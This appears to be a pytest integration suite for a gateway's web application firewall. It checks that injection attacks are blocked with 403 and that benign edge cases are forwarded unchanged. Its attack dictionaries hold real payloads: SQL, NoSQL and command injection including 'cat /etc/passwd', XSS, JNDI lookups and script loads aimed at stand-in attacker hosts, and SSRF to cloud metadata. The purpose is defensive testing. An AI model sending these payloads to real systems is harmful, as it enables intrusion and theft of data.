"""Integration: the waf policy in a real gateway on loopback (``bastion serve`` on port 0, real sockets).

Attacks in the query, a header, a cookie and a JSON body get a 403 problem that echoes nothing and
never reach the upstream; benign hard cases are forwarded byte for byte; report mode forwards.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from bastion.testing.servers import GatewayThread, LoopThread, RecordingUpstream

pytestmark = pytest.mark.integration

CONFIG = """\
listeners:
  - address: 127.0.0.1:0
    plaintext: true
upstreams:
  up: {{url: "http://127.0.0.1:{port}"}}
routes:
  - id: report-only
    match: {{prefix: /report/}}
    upstream: up
    public: true
    policies:
      - waf: {{mode: report}}
  - id: uploads
    match: {{prefix: /uploads/}}
    upstream: up
    public: true
    policies:
      - waf: {{max_body_bytes: 1MiB}}
  - id: orders
    match: {{prefix: /}}
    upstream: up
    public: true
    policies:
      - waf: {{exclusions: [{{field: /body/sql_console, rules: [sqli]}}]}}
"""


@pytest.fixture(scope="module")
def lt() -> Iterator[LoopThread]:
    t = LoopThread()
    yield t
    t.stop()


@pytest.fixture(scope="module")
def upstream(lt: LoopThread) -> Iterator[RecordingUpstream]:
    up = RecordingUpstream(lt).start()
    yield up
    up.stop()


@pytest.fixture(scope="module")
def base_url(lt: LoopThread, upstream: RecordingUpstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder: Path = tmp_path_factory.mktemp("waf-gateway")
    gw = GatewayThread(lt, folder, CONFIG.format(port=upstream.port)).start()
    yield f"http://127.0.0.1:{gw.port}"
    gw.stop()


ATTACKS = {
    "sqli_in_query": {"method": "GET", "url": "/orders", "params": {"q": "' or '1'='1"}},
    "xss_in_header": {"method": "GET", "url": "/orders", "headers": {"x-client-info": "<svg onload=alert(1)>"}},
    "jndi_in_cookie": {"method": "GET", "url": "/orders", "headers": {"cookie": "a=${jndi:ldap://evil.example/a}"}},
    "ssrf_in_json": {"method": "POST", "url": "/webhooks", "json": {"callback_url": "http://169.254.169.254/latest/"}},
    "nosql_in_json_key": {"method": "POST", "url": "/login", "json": {"user": "a", "password": {"$ne": None}}},
    "cmdi_in_form": {"method": "POST", "url": "/ping", "data": {"host": "127.0.0.1; cat /etc/passwd"}},
}


ZAP_ATTACKS = {
    "sqli_pg_sleep_after_quote_in_query": {"method": "GET", "url": "/orders",
                                           "params": {"q": "shoes' / case when cast(pg_sleep(3) as text) > '' then 1 "
                                                           "end / '"}},
    "sqli_waitfor_after_word_in_form": {"method": "POST", "url": "/orders", "data": {"note": "shoes WAITFOR DELAY "
                                                                                              "'0:0:3' -- "}},
    "sqli_sort_then_comment_in_query": {"method": "GET", "url": "/orders", "params": {"sort": "price desc -- "}},
    "cmdi_powershell_in_json": {"method": "POST", "url": "/orders", "json": {"note": "x';Start-Sleep -s 3 #"}},
    "ssti_single_brace_in_cookie": {"method": "GET", "url": "/orders", "headers": {"cookie": "prefs=ab{1337*1337}ab"}},
    "jndi_text4shell_in_header": {"method": "GET", "url": "/orders",
                                  "headers": {"x-client-ref": "${url:UTF-8:https://attacker.example/x}"}},
    "nosqli_where_sleep_in_json": {"method": "POST", "url": "/orders", "json": {"user": "abc\"); sleep(3); print(\""}},
    "traversal_relative_file_in_query": {"method": "GET", "url": "/files", "params": {"name": "etc/passwd"}},
    "proto_spring_class_loader_in_query_name": {"method": "GET", "url": "/orders",
                                                "params": {"class.module.classLoader.DefaultAssertionStatus": "x"}},
    "ssrf_oob_host_in_json": {"method": "POST", "url": "/webhooks", "json": {"target": "https://x1.oast.fun/"}},
    "ssrf_metadata_host_header": {"method": "GET", "url": "/latest/meta-data/", "headers": {"host": "169.254.169.254"}},
    "xss_src_attribute_breakout_in_form": {"method": "POST", "url": "/orders",
                                           "data": {"note": "\" src=https://attacker.example/x.js"}},
    "ldapi_metacharacter_probe_in_query": {"method": "GET", "url": "/people", "params": {"cn": "=~=>=<=*(),|!<>+-"}},
}
"""Shapes OWASP ZAP's active scan rules send (split fresh5), one per rule added for them."""
ALL_ATTACKS = {**ATTACKS, **ZAP_ATTACKS}


@pytest.mark.parametrize("request_kwargs", ALL_ATTACKS.values(), ids=ALL_ATTACKS.keys())
def test_attack_is_blocked_and_not_forwarded(base_url: str, upstream: RecordingUpstream,
                                             request_kwargs: dict[str, object]) -> None:
    before = len(upstream.requests)
    with httpx.Client(base_url=base_url, timeout=5) as client:
        response = client.request(**request_kwargs)  # type: ignore[arg-type]
    assert response.status_code == 403
    assert response.headers["content-type"].startswith("application/problem+json")
    problem = response.json()
    assert problem["type"].endswith("/request-blocked")
    for needle in ("jndi", "svg", "169.254", "$ne", "passwd", "1'='1"):
        assert needle not in response.text
    assert len(upstream.requests) == before


def test_zap_benign_hard_cases_are_forwarded(base_url: str, upstream: RecordingUpstream) -> None:
    body = (b'{"description": "Ref 0042; select \'Bank transfer\' at checkout", "sort": "created_at desc",'
            b' "snippet": "```python\\ncur.execute(\\"SELECT id FROM t\\")\\n```", "greeting": "Hi {name}, {1+1}",'
            b' "callback_url": "http://requestb.in/1234abcd", "default": "${url:-http://localhost:8080}"}')
    response = httpx.post(base_url + "/orders", content=body, timeout=5,
                          headers={"content-type": "application/json", "x-forwarded-host": "10.0.0.5:8080"})
    assert response.status_code == 200, response.text
    assert upstream.requests[-1].body == body


def test_benign_hard_cases_are_forwarded_unchanged(base_url: str, upstream: RecordingUpstream) -> None:
    body = (b'{"name": "Conan O\'Brien", "comment": "Please select a plan -- or 2; drop me a line!",'
            b' "sql_console": "1 union select 1", "website": "https://hooks.slack.com/services/T0/B0/X"}')
    response = httpx.post(base_url + "/orders", content=body, headers={"content-type": "application/json"},
                          params={"q": "Tom & Jerry; cat lovers"}, timeout=5)
    assert response.status_code == 200, response.text
    assert upstream.requests[-1].body == body


def test_report_mode_forwards_the_attack(base_url: str, upstream: RecordingUpstream) -> None:
    response = httpx.get(base_url + "/report/x", params={"q": "' or '1'='1"}, timeout=5)
    assert response.status_code == 200
    assert upstream.requests[-1].path == "/report/x"


def _padded(size: int, tail: str) -> bytes:
    """A JSON document of about ``size`` bytes whose last field holds ``tail``."""
    return b'{"notes": "' + b"lorem ipsum " * (size // 12) + b'", "q": "' + tail.encode() + b'"}'


def test_body_over_the_inspection_limit_is_refused_before_it_is_read(base_url: str,
                                                                     upstream: RecordingUpstream) -> None:
    """An attack placed after 128 KiB of padding would pass a waf that inspects only a prefix; a body the
    waf will not inspect is refused with 413 instead (it bounds the CPU one request can cost, too)."""
    before = len(upstream.requests)
    for tail in ("' or '1'='1", "hello"):
        response = httpx.post(base_url + "/orders", content=_padded(200_000, tail),
                              headers={"content-type": "application/json"}, timeout=10)
        assert response.status_code == 413 and response.json()["status"] == 413
        assert "1'='1" not in response.text
    assert len(upstream.requests) == before


def test_a_route_that_raises_the_limit_inspects_the_whole_larger_body(base_url: str,
                                                                      upstream: RecordingUpstream) -> None:
    headers = {"content-type": "application/json"}
    attack = httpx.post(base_url + "/uploads/x", content=_padded(200_000, "' or '1'='1"), headers=headers,
                        timeout=10)
    assert attack.status_code == 403
    benign = httpx.post(base_url + "/uploads/x", content=_padded(200_000, "hello"), headers=headers, timeout=10)
    assert benign.status_code == 200 and len(upstream.requests[-1].body) > 200_000


OVERRIDES = {
    "form_field": {"data": {"title": "x", "_method": "DELETE"}},
    "form_field_lower_case_value": {"data": {"_method": "delete"}},
    "form_field_percent_encoded_name": {"content": b"%5Fmethod=PATCH&title=x",
                                        "headers": {"content-type": "application/x-www-form-urlencoded"}},
    "multipart_field": {"files": {"_method": (None, "PUT")}},
    "json_member": {"json": {"_method": "DELETE", "id": 7}},
}


@pytest.mark.parametrize("request_kwargs", OVERRIDES.values(), ids=OVERRIDES.keys())
def test_method_override_field_in_a_post_body_is_refused_and_not_forwarded(
        base_url: str, upstream: RecordingUpstream, request_kwargs: dict[str, object]) -> None:
    """Rack, Laravel/Symfony and Express's method-override run such a POST as the method the field names, past
    a route's methods allow-list and per-method scopes; the gateway refuses it as it refuses the headers."""
    before = len(upstream.requests)
    response = httpx.post(base_url + "/articles/7", timeout=5, **request_kwargs)  # type: ignore[arg-type]
    assert response.status_code == 400
    assert "_method" in response.json()["detail"]
    assert len(upstream.requests) == before


@pytest.mark.parametrize("request_kwargs", [
    {"data": {"_method": "POST"}},  # names the method the request already has
    {"json": {"payment_method": "card", "method": "DELETE"}},  # other names
    {"json": {"item": {"_method": "DELETE"}}},  # not top level: no framework reads it
    {"data": {"_method": "some words"}},  # not a method token: frameworks ignore it
], ids=["same_method", "other_names", "nested", "not_a_method"])
def test_fields_that_do_not_override_the_method_pass(base_url: str, upstream: RecordingUpstream,
                                                     request_kwargs: dict[str, object]) -> None:
    response = httpx.post(base_url + "/articles/7", timeout=5, **request_kwargs)  # type: ignore[arg-type]
    assert response.status_code == 200, response.text


def test_a_slow_to_inspect_large_body_does_not_stall_other_requests(base_url: str,
                                                                   upstream: RecordingUpstream) -> None:
    """A body built to be slow to inspect (128 KiB costs a few tenths of a CPU second in the Python confirmers;
    this route allows 1 MiB) is inspected on a worker thread: small requests sent meanwhile are answered in a
    fraction of its time instead of queueing behind it on the event loop."""
    body = json.dumps({"notes": "<style>url(jjjj" * (900 * 1024 // 15)}).encode()
    done: list[tuple[int, float]] = []

    def send_large() -> None:
        started = time.perf_counter()
        response = httpx.post(base_url + "/uploads/x", content=body, headers={"content-type": "application/json"},
                              timeout=120)
        done.append((response.status_code, time.perf_counter() - started))

    sender = threading.Thread(target=send_large)
    sender.start()
    latencies: list[float] = []
    with httpx.Client(base_url=base_url, timeout=120) as client:
        while sender.is_alive():
            started = time.perf_counter()
            assert client.get("/orders", params={"q": "blue shoes"}).status_code == 200
            latencies.append(time.perf_counter() - started)
            time.sleep(0.01)
    sender.join()
    [(status, large_seconds)] = done
    assert status == 200  # benign: forwarded
    assert large_seconds > 0.5, "the body was not slow to inspect: the test shows nothing"
    assert len(latencies) >= 5
    assert max(latencies) < large_seconds / 4, (max(latencies), large_seconds)
